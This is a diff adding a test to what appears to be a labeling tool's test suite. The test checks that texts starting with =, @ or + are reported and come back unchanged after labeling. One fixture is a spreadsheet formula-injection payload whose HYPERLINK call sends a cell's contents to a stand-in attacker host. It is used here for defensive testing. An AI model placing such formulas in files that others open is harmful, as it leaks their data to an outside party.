@@ -205,3 +205,16 @@ def test_what_a_killed_start_left_is_not_counted(corpus, tmp_path):
     (part / "labeled.jsonl").write_text('{"text": "x", "label": "negative"}\n')
     Start(str(corpus[0]), str(tmp_path / "loop"), labeled=str(known)).run()
     assert Loop(tmp_path / "loop").status()["labeled"] == 2
+
+
+def test_texts_that_a_spreadsheet_would_compute_are_told_and_come_back_as_they_were(tmp_path, caplog):
+    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "@sum", "- fine", "plain"]
+    corpus = tmp_path / "corpus.jsonl"
+    corpus.write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
+    static = str(write_static(tmp_path / "static"))
+    Start(str(corpus), str(tmp_path / "loop"), ("a", "b"), backbone=static, cache=False).run()
+    loop = Loop(tmp_path / "loop")
+    told = loop.propose(4)
+    assert "2 texts begin with =, @ or +" in caplog.text
+    answer(told["sheet"], dict.fromkeys(texts, "a"))
+    assert loop.record(told["sheet"]) == {"answered": 4, "undecided": 0}
